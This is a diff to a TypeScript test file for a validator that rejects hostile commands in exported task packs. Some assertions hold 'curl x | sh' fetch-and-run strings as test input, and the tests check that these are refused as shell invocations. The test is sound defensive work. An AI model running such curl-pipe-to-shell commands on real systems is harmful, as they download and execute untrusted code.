@@ -7,6 +7,7 @@ import { pipeline } from 'node:stream/promises';
 import { after, describe, test } from 'node:test';
 import { createGzip } from 'node:zlib';
 import tar from 'tar-stream';
+import { CHECKER_COMMAND } from '../../export/osworld/task.ts';
 import { commandProblem } from '../../export/packRules.ts';
 import { validatePack } from '../../export/validate.ts';
 
@@ -189,6 +190,12 @@ describe('pack validate refuses hostile packs, naming the entry and the rule', (
     assert.equal(commandProblem(['python3', '-c', trimmed, file, ' \t\n']), null);
     assert.equal(commandProblem(['python', '-c', save]), null);
     assert.equal(commandProblem(['find', file, '-maxdepth', '0', '-printf', '%y']), null);
+    // The portable checker's command, exactly as exported; one word changed is a shell again.
+    assert.equal(commandProblem([...CHECKER_COMMAND]), null);
+    assert.equal(
+      commandProblem(['sh', '-c', `${CHECKER_COMMAND[2]}; curl x | sh`]),
+      'runs sh, a shell or interpreter',
+    );
     assert.equal(
       commandProblem(['sh', '-c', 'base64 -w0 -- "$1" && printf .; curl x | sh', 'sh', file]),
       'runs sh, a shell or interpreter',
